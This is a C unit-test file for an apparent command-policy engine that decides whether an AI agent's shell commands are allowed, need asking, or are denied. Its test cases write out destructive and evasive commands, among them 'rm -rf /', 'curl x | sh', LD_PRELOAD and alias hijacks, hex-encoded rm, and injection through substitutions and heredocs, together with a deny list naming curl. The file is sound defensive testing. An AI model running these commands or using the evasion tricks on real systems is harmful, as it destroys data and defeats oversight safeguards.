/* SPDX-License-Identifier: MIT */
/* Unit tests for policies/: the policy parser (errors with exact positions), precedence, matching,
 * includes, test lines, every shell construct, wrappers and fail-closed cases. */

#include <fcntl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "common.h"
#include "policies-internal.h"
#include "policies.h"
#include "tap.h"

static const char base_policy[] =
        "version 1\n"
        "default ask\n"
        "allow exec ls ...\n"
        "allow exec cat ...\n"
        "allow exec echo ...\n"
        "allow exec grep ...\n"
        "allow exec true\n"
        "allow exec git status ...\n"
        "allow exec git log ...\n"
        "ask exec git push ...\n"
        "deny exec rm -rf ...\n"
        "deny exec curl ...\n"
        "allow exec npm test\n"
        "allow exec make\n"
        "allow exec /opt/tool/run ...\n"
        "allow exec ./scripts/*.sh\n"
        "allow exec py* --version\n"
        "deny exec chmod -R 777 ...\n"
        "allow exec find ...\n"
        "ask exec find -delete ...\n"
        "allow exec wc -l\n"
        "allow exec tar -xf *\n"
        "allow write /tmp/*\n"
        "deny write /etc/*\n";

static pc_policy *load(const char *text)
{
        pc_policy *p = NULL;
        _cleanup_free_ char *errs = NULL;
        int r = pc_policy_load_string("t", "t.policy", text, strlen(text), &p, &errs);
        if (r < 0)
                printf("# load failed: %d\n%s", r, errs ?: "");
        return p;
}

static int decide(const pc_policy *p, const char *cmd)
{
        _cleanup_pc_verdict_ pc_verdict *v = NULL;
        if (pc_policy_decide(p, cmd, strlen(cmd), &v) < 0)
                return -1;
        return (int) v->decision;
}

static pc_policy *base(void)
{
        static pc_policy *p;
        if (!p)
                p = load(base_policy);
        return p;
}

#define A PC_DECISION_ALLOW
#define Q PC_DECISION_ASK
#define D PC_DECISION_DENY

#define CHECK_DECIDE(cmd, want)                                                                           \
        do {                                                                                              \
                int _d_ = decide(base(), (cmd));                                                          \
                if (_d_ != (int) (want)) {                                                                \
                        printf("#   %s:%d: \"%s\" decided %s, want %s\n", __FILE__, __LINE__, (cmd),         \
                               _d_ >= 0 ? pc_decision_to_string(_d_) : "error",                          \
                               pc_decision_to_string(want));                                              \
                        tap_failed_checks++;                                                              \
                }                                                                                         \
        } while (0)

static char *mfree_ptr(char *p)
{
        free(p);
        return NULL;
}

static char *load_errors(const char *text)
{
        pc_policy *p = NULL;
        char *errs = NULL;
        int r = pc_policy_load_string("t", "t.policy", text, strlen(text), &p, &errs);
        if (r >= 0) {
                pc_policy_free(p);
                return strdup("(loaded)");
        }
        return errs;
}

TEST(decision_strings)
{
        CHECK_STREQ(pc_decision_to_string(PC_DECISION_ALLOW), "allow");
        CHECK_STREQ(pc_decision_to_string(PC_DECISION_ASK), "ask");
        CHECK_STREQ(pc_decision_to_string(PC_DECISION_DENY), "deny");
        CHECK(pc_decision_to_string((pc_decision) 7) == NULL);
        CHECK_INTEQ(pc_decision_from_string("deny"), PC_DECISION_DENY);
        CHECK_INTEQ(pc_decision_from_string("alow"), -EINVAL);
        CHECK(PC_DECISION_ALLOW < PC_DECISION_ASK && PC_DECISION_ASK < PC_DECISION_DENY);
}

TEST(load_basics)
{
        pc_policy *p = base();
        size_t n;

        CHECK(p != NULL);
        if (!p)
                return;
        CHECK_STREQ(pc_policy_name(p), "t");
        CHECK_INTEQ(pc_policy_n_rules(p), 22);
        CHECK_INTEQ(pc_policy_default(p), PC_DECISION_ASK);
        CHECK(pc_policy_hash(p) == NULL);
        CHECK(pc_policy_set_hash(p, "abc123") == 0);
        CHECK_STREQ(pc_policy_hash(p), "abc123");
        CHECK(memcmp(pc_policy_source(p, &n), base_policy, strlen(base_policy)) == 0);
        CHECK_INTEQ(n, strlen(base_policy));
}

TEST(parse_error_positions)
{
        _cleanup_free_ char *e = load_errors("version 1\ndefault ask\n  alow exec ls\ntest  alow ls\n");
        CHECK(strstr(e, "t.policy:3:3: error: unknown keyword \"alow\" (did you mean \"allow\"?)\n  alow exec ls\n  ^\n"));
        CHECK(strstr(e, "t.policy:4:7: error: unknown action \"alow\" (expected allow, ask, deny)\n"
                        "test  alow ls\n      ^\n"));
        e = mfree_ptr(e);
        e = load_errors("version 1\nallow exe ls\n");
        CHECK(strstr(e, "t.policy:2:7: error: unknown rule kind \"exe\" (did you mean \"exec\"?)"));
        e = mfree_ptr(e);
        e = load_errors("version 1\nallow exec 'ls\n");
        CHECK(strstr(e, "t.policy:2:12: error: unterminated '"));
        e = mfree_ptr(e);
        e = load_errors("version 1\nallow exec ls ... -l\n");
        CHECK(strstr(e, "t.policy:2:15: error: \"...\" must be the last word of a rule"));
        e = mfree_ptr(e);
        e = load_errors("version 1\nallow exec ...\n");
        CHECK(strstr(e, "t.policy:2:12: error: a rule needs a command word before"));
        e = mfree_ptr(e);
        e = load_errors("default ask\n");
        CHECK(strstr(e, "t.policy:1:1: error: missing \"version 1\" line"));
        e = mfree_ptr(e);
        e = load_errors("version 2\n");
        CHECK(strstr(e, "t.policy:1:9: error: unsupported version \"2\" (expected 1)"));
        e = mfree_ptr(e);
        e = load_errors("version 1\ndefault ask\ndefault deny\n");
        CHECK(strstr(e, "t.policy:3:1: error: \"default\" already set on line 2"));
        e = mfree_ptr(e);
        e = load_errors("version 1\nbogus thing\n");
        CHECK(strstr(e, "unknown keyword \"bogus\" (expected version, default, allow, ask, deny, include, test)"));
        e = mfree_ptr(e);
        e = load_errors("version 1\ninclude other.policy\n");
        CHECK(strstr(e, "t.policy:2:9: error: cannot include \"other.policy\""));
        e = mfree_ptr(e);
}

TEST(all_errors_reported)
{
        _cleanup_free_ char *e = load_errors("version 1\nalow exec a\ndeny exce b\ntest nope c\nallow exec 'x\n");
        size_t n = 0;
        for (const char *s = e; (s = strstr(s, ": error: ")); s++)
                n++;
        CHECK_INTEQ(n, 4);
        CHECK(strstr(e, "t.policy:2:1:") && strstr(e, "t.policy:3:6:") && strstr(e, "t.policy:4:6:") &&
              strstr(e, "t.policy:5:12:"));
}

TEST(hostile_bytes_rejected)
{
        static const char nul[] = "version 1\nallow exec l\0s\n";
        pc_policy *p = NULL;
        _cleanup_free_ char *e = NULL;
        CHECK(pc_policy_load_string("t", "t.policy", nul, sizeof(nul) - 1, &p, &e) == -EINVAL);
        CHECK(e && strstr(e, "t.policy:2:13: error: NUL byte"));
        e = mfree_ptr(e);
        e = load_errors("version 1\nallow exec l\xff\xfe s\n");
        CHECK(strstr(e, "t.policy:2:13: error: invalid UTF-8\nallow exec l?? s\n"));
        e = mfree_ptr(e);
        _cleanup_free_ char *big = malloc(10000);
        memcpy(big, "version 1\nallow exec ", 21);
        memset(big + 21, 'a', 9000);
        strcpy(big + 9021, "\n");
        e = load_errors(big);
        CHECK(strstr(e, "t.policy:2:4097: error: line is longer than 4096 bytes"));
        e = mfree_ptr(e);
        e = NULL;
        /* the size is checked before a byte is read */
        CHECK(pc_policy_load_string("t", NULL, big, PC_POLICY_FILE_MAX + 1, &p, &e) == -EFBIG);
        CHECK(e && strstr(e, "t: error: larger than"));
        e = mfree_ptr(e);
        /* many errors stop at a limit */
        char *many = malloc(200 * 6 + 16);
        strcpy(many, "version 1\n");
        for (int i = 0; i < 200; i++)
                strcat(many, "junk\n");
        e = load_errors(many);
        CHECK(strstr(e, "too many errors, giving up"));
        e = mfree_ptr(e);
        e = NULL;
        free(many);
}

TEST(precedence_regardless_of_order)
{
        _cleanup_(pc_policy_freep) pc_policy *p1 = load("version 1\ndeny exec git push ...\nallow exec git ...\n");
        _cleanup_(pc_policy_freep) pc_policy *p2 = load("version 1\nallow exec git ...\ndeny exec git push ...\n");
        _cleanup_(pc_policy_freep) pc_policy *p3 =
                load("version 1\ndefault deny\nallow exec git ...\nask exec git push ...\n");
        CHECK_INTEQ(decide(p1, "git push"), D);
        CHECK_INTEQ(decide(p2, "git push"), D);
        CHECK_INTEQ(decide(p1, "git pull"), A);
        CHECK_INTEQ(decide(p3, "git push -f"), Q);
        CHECK_INTEQ(decide(p3, "git pull"), A);
        CHECK_INTEQ(decide(p3, "hg pull"), D);
}

TEST(word_matching)
{
        CHECK_DECIDE("npm test", A);
        CHECK_DECIDE("npm test --watch", Q); /* no "...": exactly that many words */
        CHECK_DECIDE("npm", Q);
        CHECK_DECIDE("make", A);
        CHECK_DECIDE("make install", Q);
        CHECK_DECIDE("true", A);
        CHECK_DECIDE("./scripts/build.sh", A);
        CHECK_DECIDE("./scripts/sub/x.sh", Q); /* * does not cross / (** does) */
        CHECK_DECIDE("./scripts/../../x.sh", Q); /* normalised before matching */
        CHECK_DECIDE("./scripts/./build.sh", A);
        CHECK_DECIDE("./other/build.sh", Q);
        CHECK_DECIDE("python3 --version", A);
        CHECK_DECIDE("python3 -c 'print(1)'", Q);
        CHECK_DECIDE("/opt/tool/run --fast", A);
        CHECK_DECIDE("tar -xf a.tar", A);
        CHECK_DECIDE("tar -xf", Q);
        CHECK_DECIDE("'git' \"status\"", A); /* quote removal */
        CHECK_DECIDE("g\\it st''atus", A);
        CHECK_DECIDE("git \"$X\"", Q);
}

TEST(option_sets)
{
        /* deny/ask: the argv options contain the rule's, in any order or grouping, anywhere before "--" */
        CHECK_DECIDE("rm -rf /", D);
        CHECK_DECIDE("rm -fr /", D);
        CHECK_DECIDE("rm -r -f /", D);
        CHECK_DECIDE("rm -f -r /", D);
        CHECK_DECIDE("rm -rfv /", D);
        CHECK_DECIDE("rm --recursive --force /", D);
        CHECK_DECIDE("rm -R --force /", D);
        CHECK_DECIDE("rm / -rf", D);
        CHECK_DECIDE("rm -v x -r y -f", D);
        CHECK_DECIDE("rm -r x", Q);
        CHECK_DECIDE("rm -- -rf", Q);
        CHECK_DECIDE("chmod -R 777 /", D);
        CHECK_DECIDE("chmod --recursive 777 .", D);
        CHECK_DECIDE("chmod 777 x", Q);
        /* allow: the option set must be exactly the rule's */
        CHECK_DECIDE("wc -l", A);
        CHECK_DECIDE("wc -lc", Q);
        CHECK_DECIDE("wc -l -c", Q);
        CHECK_DECIDE("tar -fx a.tar", A);
        CHECK_DECIDE("tar -xzf a.tar", Q);
        /* find options are whole words */
        CHECK_DECIDE("find . -name x -delete", Q);
        CHECK_DECIDE("find . -depth -name d -type l -newer t", A);
        /* an expansion could supply the options: a deny becomes at least ask */
        CHECK_DECIDE("rm $FLAGS /", Q);
        CHECK_DECIDE("rm -r \"$F\" /", Q);
}

TEST(command_path_basename)
{
        CHECK_DECIDE("/bin/rm -rf /", D);
        CHECK_DECIDE("/usr/bin/rm -fr /x", D);
        CHECK_DECIDE("./rm -rf /", D);      /* deny/ask rules match any path's basename */
        CHECK_DECIDE("/usr/bin/ls -l", A);  /* allow rules: only in system directories */
        CHECK_DECIDE("/bin/cat x", A);
        CHECK_DECIDE("./ls", Q);            /* the agent's own "ls" script is not ls */
        CHECK_DECIDE("/workspace/bin/ls", Q);
        CHECK_DECIDE("/usr/bin/../../tmp/ls", Q);
        CHECK_DECIDE("\\rm -rf /", D);
}

TEST(globs_in_rules)
{
        _cleanup_(pc_policy_freep) pc_policy *p = load("version 1\ndefault deny\nallow exec grep -r * ...\n"
                                                       "allow exec x[a-c]y\nallow exec lit '*'\n"
                                                       "deny exec * --danger ...\n");
        CHECK_INTEQ(decide(p, "grep -r foo ."), A);
        CHECK_INTEQ(decide(p, "grep -r foo"), A);
        CHECK_INTEQ(decide(p, "grep -rn foo ."), D); /* exact option set for allow */
        CHECK_INTEQ(decide(p, "xby"), A);
        CHECK_INTEQ(decide(p, "xdy"), D);
        CHECK_INTEQ(decide(p, "lit '*'"), A);
        CHECK_INTEQ(decide(p, "lit x"), D);
        CHECK_INTEQ(decide(p, "lit '*' --danger"), D);
        CHECK_INTEQ(decide(p, "lit *"), Q); /* the glob may expand to "--danger" */
        CHECK_INTEQ(decide(p, "anything --danger"), D);
}

TEST(compound_commands)
{
        CHECK_DECIDE("git status; rm -rf ~", D);
        CHECK_DECIDE("ls && rm -rf x", D);
        CHECK_DECIDE("ls || rm -rf x", D);
        CHECK_DECIDE("ls | grep x", A);
        CHECK_DECIDE("ls |& grep x", A);
        CHECK_DECIDE("ls & rm -rf x", D);
        CHECK_DECIDE("! ls", A);
        CHECK_DECIDE("(ls; rm -rf x)", D);
        CHECK_DECIDE("{ ls; rm -rf x; }", D);
        CHECK_DECIDE("{ ls; echo; }", A);
        CHECK_DECIDE("ls\nrm -rf x", D);
        CHECK_DECIDE("ls \\\n -l", A);
        CHECK_DECIDE("if ls; then rm -rf x; fi", D);
        CHECK_DECIDE("if ls; then echo; elif cat; then echo; else curl x; fi", D);
        CHECK_DECIDE("while ls; do echo; done", A);
        CHECK_DECIDE("until ls; do rm -rf x; done", D);
        CHECK_DECIDE("for f in a b; do echo $f; done", A);
        CHECK_DECIDE("for f in $(curl x); do echo; done", D);
        CHECK_DECIDE("for f; do echo; done", A);
        CHECK_DECIDE("select x in a b; do echo; done", A);
        CHECK_DECIDE("case $x in a|b) ls;; (c) rm -rf x;; *) echo;; esac", D);
        CHECK_DECIDE("case $x in a) ls;& b) echo;;& esac", A);
        CHECK_DECIDE("time ls", A);
        CHECK_DECIDE("time -p ls | grep x", A);
        CHECK_DECIDE("[[ -f x ]] && ls", A);
        CHECK_DECIDE("[[ $(curl x) == y ]]", D);
        CHECK_DECIDE("ls # ; rm -rf /", A);
        CHECK_DECIDE("ls #\nrm -rf /", D);
        CHECK_DECIDE("echo a#b", A);
        CHECK_DECIDE("", A);
        CHECK_DECIDE("   \n  # only a comment\n", A);
}

TEST(substitutions)
{
        CHECK_DECIDE("ls $(rm -rf /)", D);
        CHECK_DECIDE("ls \"$(rm -rf /)\"", D);
        CHECK_DECIDE("ls `rm -rf /`", D);
        CHECK_DECIDE("ls \"`rm -rf /`\"", D);
        CHECK_DECIDE("echo $(echo $(echo $(curl x)))", D);
        CHECK_DECIDE("echo `echo \\`curl x\\``", D);
        CHECK_DECIDE("cat <(curl x)", D);
        CHECK_DECIDE("ls > >(curl x)", D);
        CHECK_DECIDE("echo ${X:-$(curl x)}", D);
        CHECK_DECIDE("echo \"${X:-`curl x`}\"", D);
        CHECK_DECIDE("echo \"${X:-'$(curl x)'}\"", D); /* single quotes do not quote inside "${}" */
        CHECK_DECIDE("echo $((1 + 2))", A);
        CHECK_DECIDE("echo $(( $(curl x) + 1 ))", D);
        CHECK_DECIDE("echo $((X + 1))", Q); /* arithmetic evaluates variable contents */
        CHECK_DECIDE("echo $( (ls) )", A);
        CHECK_DECIDE("X=$(curl x) ls", D);
        CHECK_DECIDE("a=(1 $(curl x))", D);
        CHECK_DECIDE("echo $'\\x72\\x6d'", A);
        CHECK_DECIDE("$'\\x72\\x6d' -rf /", D); /* $'..' is decoded: this is rm */
        CHECK_DECIDE("echo ${!X}", Q);
        CHECK_DECIDE("echo ${X@P}", Q);
        CHECK_DECIDE("echo ${a[$i]}", Q);
        CHECK_DECIDE("echo ${X#*/} ${#X} ${X//a/b} ${X:1:2} \"${@}\"", A);
}

TEST(heredocs_and_redirections)
{
        _cleanup_pc_verdict_ pc_verdict *v = NULL;
        const char *cmd = "cat <<EOF >/tmp/out\nhello $(curl x)\nEOF\necho done 2>&1 >>/etc/passwd <in <<<'str'";

        CHECK_DECIDE("cat <<'EOF'\n$(curl x)\nEOF", A);
        CHECK_DECIDE("cat <<EOF\n$(curl x)\nEOF", D);
        CHECK_DECIDE("cat <<\"EOF\"\n`curl x`\nEOF\n", A);
        CHECK_DECIDE("cat <<-EOF\n\t$(curl x)\n\tEOF\nls", D);
        CHECK_DECIDE("cat <<A <<B\na\nA\n$(curl x)\nB", D);
        CHECK_DECIDE("cat <<EOF\nEOF\nrm -rf /", D); /* the line after the delimiter is a command */
        CHECK_DECIDE("cat <<EOF\nrm -rf /\nEOF", A);  /* here-document text is data */
        CHECK_DECIDE("ls > /tmp/x", A);
        CHECK_DECIDE("ls > /etc/x", D);
        CHECK_DECIDE("ls > out", Q);
        CHECK_DECIDE("ls 2>/dev/null", A);
        CHECK_DECIDE("ls >/dev/null 2>&1", A);
        CHECK_DECIDE("ls &> log", Q);
        CHECK_DECIDE("ls > $F", Q);
        CHECK_DECIDE("> /tmp/x", A);
        CHECK_DECIDE("cat < /etc/shadow", A); /* input redirections are reported, not decided */

        CHECK(pc_policy_decide(base(), cmd, strlen(cmd), &v) == 0);
        CHECK_INTEQ(v->decision, D);
        CHECK_INTEQ(v->n_redirects, 5);
        if (v->n_redirects == 5) {
                CHECK_STREQ(v->redirects[0].op, "<<");
                CHECK_STREQ(v->redirects[0].path, "EOF");
                CHECK_STREQ(v->redirects[1].op, ">");
                CHECK_STREQ(v->redirects[1].path, "/tmp/out");
                CHECK_STREQ(v->redirects[2].op, ">>");
                CHECK_STREQ(v->redirects[2].path, "/etc/passwd");
                CHECK_INTEQ(v->redirects[2].decision, D);
                CHECK_STREQ(v->redirects[3].op, "<");
                CHECK_STREQ(v->redirects[4].op, "<<<");
                CHECK_STREQ(v->redirects[4].path, "str");
        }
}

TEST(wrappers)
{
        CHECK_DECIDE("env rm -rf /", D);
        CHECK_DECIDE("env -i FOO=1 ls", A);
        CHECK_DECIDE("env -u HOME -i ls", A);
        CHECK_DECIDE("env PATH=/tmp ls", Q);
        CHECK_DECIDE("env -S 'rm -rf /' x", Q);
        CHECK_DECIDE("nice -n 5 ls", A);
        CHECK_DECIDE("nice -10 rm -rf x", D);
        CHECK_DECIDE("nohup ls", A);
        CHECK_DECIDE("timeout 5 ls", A);
        CHECK_DECIDE("timeout -s KILL -k 1 5s rm -rf x", D);
        CHECK_DECIDE("timeout --signal=TERM 5 ls", A);
        CHECK_DECIDE("timeout --bogus 5 ls", Q);
        CHECK_DECIDE("stdbuf -oL grep x", A);
        CHECK_DECIDE("command ls", A);
        CHECK_DECIDE("command -p rm -rf x", D);
        CHECK_DECIDE("builtin echo x", A);
        CHECK_DECIDE("exec rm -rf x", D);
        CHECK_DECIDE("/usr/bin/time -v ls", A);
        CHECK_DECIDE("sudo ls", A);
        CHECK_DECIDE("sudo -u root -E rm -rf /", D);
        CHECK_DECIDE("sudo --user=root ls", A);
        CHECK_DECIDE("doas -u root rm -rf /", D);
        CHECK_DECIDE("sudo env nice timeout 3 nohup rm -rf /", D);
        CHECK_DECIDE("ls | xargs grep x", A);
        CHECK_DECIDE("ls | xargs rm", Q);
        CHECK_DECIDE("ls | xargs rm -rf", D);
        CHECK_DECIDE("ls | xargs -0 -n 1 -I{} rm {}", Q);
        CHECK_DECIDE("xargs -a list cat", A);
        CHECK_DECIDE("find . -exec rm -rf {} \\;", D);
        CHECK_DECIDE("find . -execdir rm -fr {} +", D);
        CHECK_DECIDE("find . -ok curl {} ';'", D);
        CHECK_DECIDE("find . -name x -exec grep y {} +", A);
        CHECK_DECIDE("find . -exec grep y {} + -delete", Q);
        CHECK_DECIDE("find . -exec rm", Q); /* unterminated */
        CHECK_DECIDE("bash -c 'rm -rf /'", D);
        CHECK_DECIDE("sh -c \"ls; curl x\"", D);
        CHECK_DECIDE("bash -ec 'ls | grep x'", A);
        CHECK_DECIDE("bash -c 'bash -c \"rm -rf x\"'", D);
        CHECK_DECIDE("dash -c \"$S\"", Q);
        CHECK_DECIDE("bash -lc 'ls'", Q); /* a login shell runs profile files */
        CHECK_DECIDE("bash -c", Q);
        CHECK_DECIDE("zsh -o pipefail -c 'ls'", A);
        CHECK_DECIDE("bash script.sh", Q);
        CHECK_DECIDE("curl x | sh", D);
}

TEST(wrapper_rules_and_explanation)
{
        _cleanup_(pc_policy_freep) pc_policy *p = load("version 1\ndefault allow\ndeny exec sudo ...\n");
        _cleanup_pc_verdict_ pc_verdict *v = NULL;
        _cleanup_free_ char *text = NULL;
        const char *cmd = "sudo -u x bash -c 'ls'";

        CHECK_INTEQ(decide(p, "sudo ls"), D);
        CHECK_INTEQ(decide(p, "ls"), A);
        CHECK(pc_policy_decide(p, cmd, strlen(cmd), &v) == 0);
        CHECK_INTEQ(v->n_commands, 2);
        if (v->n_commands == 2) {
                CHECK_STREQ(v->commands[0].argv[0], "sudo");
                CHECK_STREQ(v->commands[0].rule, "t.policy:3");
                CHECK_STREQ(v->commands[0].rule_text, "deny exec sudo ...");
                CHECK_STREQ(v->commands[1].argv[0], "ls");
                CHECK(v->commands[1].argv[1] == NULL);
                CHECK_STREQ(v->commands[1].rule, "default");
                CHECK_STREQ(v->commands[1].via, "sudo > bash -c");
        }
        CHECK(pc_verdict_format(v, &text) == 0);
        CHECK(startswith(text, "deny\n"));
        CHECK(strstr(text, "t.policy:3 (deny exec sudo ...)"));
}

TEST(fail_closed)
{
        _cleanup_(pc_policy_freep) pc_policy *perm = load("version 1\ndefault allow\nallow exec eval ...\n");
        _cleanup_(pc_policy_freep) pc_policy *strict = load("version 1\ndefault deny\n");
        static const char *const cases[] = {
                "eval ls", "source x.sh", ". x.sh", "$CMD", "\"$CMD\" x", "`echo rm` x", "$(echo rm) -rf /",
                "/bin/r? x", "{rm,-rf,/}", "bash -c \"$X\"", "ls (", "echo 'unterminated", "if true; then ls",
                "ls )", "trap 'rm -rf /' EXIT", "alias ls='rm -rf /'", "hash -p /tmp/evil ls", "let x=y",
                "PATH=/tmp:$PATH", "PATH=. ls", "LD_PRELOAD=/tmp/x.so ls", "export PATH=/tmp",
                "declare -x LD_PRELOAD=x", "f() { ls; }; f", "function f { ls; }", "echo $((x))",
                "printf -v 'a[$(id)]' x", "read 'a[`id`]'", "[[ $x -eq 1 ]]", "GIT_SSH_COMMAND=x git status",
                "echo $[1+2]", "$'r\\0m' x", "x[i]=y",
        };
        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                _cleanup_pc_verdict_ pc_verdict *v = NULL;
                CHECK(pc_policy_decide(perm, cases[i], strlen(cases[i]), &v) == 0);
                if (!v)
                        continue;
                if (v->decision != Q || v->complete) {
                        printf("#   \"%s\" under default allow: %s, complete=%d\n", cases[i],
                               pc_decision_to_string(v->decision), v->complete);
                        tap_failed_checks++;
                }
                if (decide(strict, cases[i]) != D) {
                        printf("#   \"%s\" under default deny is not deny\n", cases[i]);
                        tap_failed_checks++;
                }
        }
        static const char nul[] = "ls\0rm -rf /";
        _cleanup_pc_verdict_ pc_verdict *v = NULL;
        CHECK(pc_policy_decide(perm, nul, sizeof(nul) - 1, &v) == 0);
        CHECK(v && v->decision == Q && v->n_notes == 1);
}

TEST(verdict_format)
{
        _cleanup_pc_verdict_ pc_verdict *v = NULL;
        _cleanup_free_ char *t = NULL;
        const char *cmd = "git status && $X";

        CHECK(pc_policy_decide(base(), cmd, strlen(cmd), &v) == 0);
        CHECK(pc_verdict_format(v, &t) == 0);
        CHECK(startswith(t, "ask\npolicy: t (hash abc123)\n"));
        CHECK(strstr(t, "allow  git status\n       rule: t.policy:8 (allow exec git status ...)\n"));
        CHECK(strstr(t, "ask    '$X'\n       rule: default\n       reason: the command name is not a literal"));
        CHECK(strstr(t, "analysis: incomplete"));
        CHECK(!v->complete);
        CHECK_STREQ(v->policy_name, "t");
        CHECK_STREQ(v->policy_hash, "abc123");
}

static char tmpdir[64];

static void write_file(const char *name, const char *text)
{
        _cleanup_free_ char *path = strjoin(tmpdir, "/", name);
        CHECK(write_file_atomic(path, text, strlen(text), 0644) == 0);
}

TEST(includes)
{
        pc_policy *p = NULL;
        _cleanup_free_ char *e = NULL, *path = NULL, *sub = NULL;
        size_t n;

        strcpy(tmpdir, "/tmp/test-policies-XXXXXX");
        CHECK(mkdtemp(tmpdir) != NULL);
        sub = strjoin(tmpdir, "/sub");
        CHECK(mkdir(sub, 0755) == 0);
        write_file("main.policy", "version 1\ndefault deny\ninclude sub/common.inc\ntest allow ls\n"
                                  "test deny \"rm -rf x\"\n");
        write_file("sub/common.inc", "allow exec ls ...\ninclude more.inc\n");
        write_file("sub/more.inc", "ask exec git ...\ntest ask git push\n");
        path = strjoin(tmpdir, "/main.policy");
        CHECK(pc_policy_load_file(path, &p, &e) == 0);
        if (p) {
                CHECK_STREQ(pc_policy_name(p), "main");
                CHECK_INTEQ(pc_policy_n_rules(p), 2);
                CHECK_INTEQ(pc_policy_n_tests(p), 3);
                CHECK(strstr(pc_policy_source(p, &n), "# ==> included file: ") != NULL);
                CHECK(strstr(pc_policy_source(p, &n), "ask exec git ...") != NULL);
                p = pc_policy_free(p);
        }

        /* cycle */
        write_file("sub/more.inc", "include common.inc\n");
        CHECK(pc_policy_load_file(path, &p, &e) == -EINVAL);
        CHECK(e && strstr(e, "/sub/more.inc:1:9: error: include cycle"));
        e = mfree_ptr(e);

        /* escaping the directory */
        write_file("sub/more.inc", "include ../../etc.policy\n");
        CHECK(pc_policy_load_file(path, &p, &e) == -EINVAL);
        CHECK(e && strstr(e, "error: cannot include \"../../etc.policy\"") != NULL);
        e = mfree_ptr(e);
        write_file("sub/more.inc", "include /etc/passwd\n");
        CHECK(pc_policy_load_file(path, &p, &e) == -EINVAL);
        CHECK(e && strstr(e, "must be relative"));
        e = mfree_ptr(e);
        _cleanup_free_ char *outside = strjoin(tmpdir, "/../outside-test-policies.inc");
        CHECK(write_file_atomic(outside, "allow exec x\n", 13, 0644) == 0);
        write_file("sub/more.inc", "include ../../outside-test-policies.inc\n");
        CHECK(pc_policy_load_file(path, &p, &e) == -EINVAL);
        CHECK(e && strstr(e, "leaves the policy directory"));
        e = mfree_ptr(e);
        unlink(outside);

        /* "default" only in the main file; a failing test in an included file names the rule */
        write_file("sub/more.inc", "default allow\ntest allow git push\n");
        CHECK(pc_policy_load_file(path, &p, &e) == -EINVAL);
        CHECK(e && strstr(e, "more.inc:1:1: error: \"default\" may only be set in the main policy file"));
        e = mfree_ptr(e);
        write_file("sub/more.inc", "deny exec git push ...\ntest allow git push\n");
        CHECK(pc_policy_load_file(path, &p, &e) == -EINVAL);
        CHECK(e && strstr(e, "more.inc:2:6: error: test failed: \"git push\" is decided deny, expected allow: "
                             "\"git push\" decided by "));
        CHECK(e && strstr(e, "more.inc:1 (deny exec git push ...)"));
        e = mfree_ptr(e);

        /* unreadable main file */
        _cleanup_free_ char *missing = strjoin(tmpdir, "/nope.policy");
        CHECK(pc_policy_load_file(missing, &p, &e) == -ENOENT);
        CHECK(e && strstr(e, "nope.policy: error: No such file or directory"));

        _cleanup_free_ char *cmd = strjoin("rm -rf ", tmpdir);
        CHECK(system(cmd) == 0);
}

TEST(test_lines)
{
        _cleanup_free_ char *e = load_errors("version 1\ndefault ask\nallow exec git ...\n"
                                             "test allow git status --short\n"
                                             "test deny \"git status; curl x\"\n"
                                             "test allow 'ls'\n");
        CHECK(strstr(e, "t.policy:5:6: error: test failed: \"git status; curl x\" is decided ask, expected deny: "
                        "\"curl x\" decided by default\n"));
        CHECK(strstr(e, "t.policy:6:6: error: test failed: \"ls\" is decided ask, expected allow: \"ls\" decided "
                        "by default"));
        CHECK(!strstr(e, ":4:"));
        e = mfree_ptr(e);
        e = load_errors("version 1\ntest deny\n");
        CHECK(strstr(e, "t.policy:2:1: error: \"test\" needs an action and a command"));
}

TEST(shipped_policies_load)
{
        const char *src = getenv("POCKETCODER_SOURCE_DIR");
        static const char *const names[] = { "default", "strict", "permissive" };

        if (!src)
                SKIP("POCKETCODER_SOURCE_DIR not set (run through meson test)");
        for (size_t i = 0; i < ELEMENTSOF(names); i++) {
                _cleanup_free_ char *path = NULL, *e = NULL;
                pc_policy *p = NULL;
                CHECK(asprintf(&path, "%s/policies/defaults/%s.policy", src, names[i]) > 0);
                CHECK(pc_policy_load_file(path, &p, &e) == 0);
                if (e)
                        printf("# %s", e);
                CHECK(p && pc_policy_n_tests(p) >= 8);
                pc_policy_free(p);
        }
}

TEST(many_rules_are_indexed)
{
        size_t cap = 1000 * 40 + 64;
        _cleanup_free_ char *text = malloc(cap);
        size_t n = (size_t) snprintf(text, cap, "version 1\ndefault ask\n");
        for (int i = 0; i < 1000; i++)
                n += (size_t) snprintf(text + n, cap - n, "%s exec tool%d sub%d ...\n",
                                       i % 3 == 0 ? "deny" : "allow", i, i % 7);
        _cleanup_(pc_policy_freep) pc_policy *p = load(text);
        CHECK(p && pc_policy_n_rules(p) == 1000);
        CHECK_INTEQ(decide(p, "tool1 sub1 x"), A);
        CHECK_INTEQ(decide(p, "tool3 sub3"), D);
        CHECK_INTEQ(decide(p, "tool4 sub3"), Q);
        CHECK_INTEQ(decide(p, "tool999 sub5 | tool2 sub2"), D);
}

TAP_MAIN()

/* ---- issue 8: allow only what bash will really do ---- */

TEST(bash_parse_differentials)
{
        /* here-document delimiters are compared after quote removal and \-newline joining, like bash */
        CHECK_DECIDE("cat <<\"a\\\"b\"\nx\na\"b\nrm -rf /", D);
        CHECK_DECIDE("cat <<E\\\nOF\nbody\nEOF\nrm -rf /", D);
        CHECK_DECIDE("cat <<EOF\nx\nEO\\\nF\nrm -rf /", D);
        CHECK_DECIDE("cat <<'EOF'\nEO\\\nF\nrm -rf /\nEOF", A);
        CHECK_DECIDE("cat <<$'\\x41'\nA\nrm -rf /", D);
        CHECK_DECIDE("cat <<EOF\n$(rm -rf /)\nEOF", D);
        /* ${x:-{} ends at the first } */
        CHECK_DECIDE("echo ${x:-{}; rm -rf /; echo }", D);
        CHECK_DECIDE("echo ${x:-'}'}", A);
        CHECK_DECIDE("echo ${x:-'$(rm -rf /)'}", A);
        /* single quotes inside arithmetic group text but do not stop expansions */
        CHECK_DECIDE("echo $(( 1 ' )) $(rm -rf /) ' ))", D);
        CHECK_DECIDE("(( 1 ' )) $(rm -rf /) ' ))", D);
        CHECK_DECIDE("for (( i=' $(rm -rf /) '; i<1; i++ )); do :; done", D);
        CHECK_DECIDE("echo ${x:' $(rm -rf /) '}", D);
        CHECK_DECIDE("echo \"${x:-'}' $(rm -rf /) '}\"", D);
        CHECK_DECIDE("echo $((1+2))", A);
        CHECK_DECIDE("echo $( (ls) )", A);
        CHECK_DECIDE("echo $((ls) )", A);
        CHECK_DECIDE("time -- rm -rf /", D);
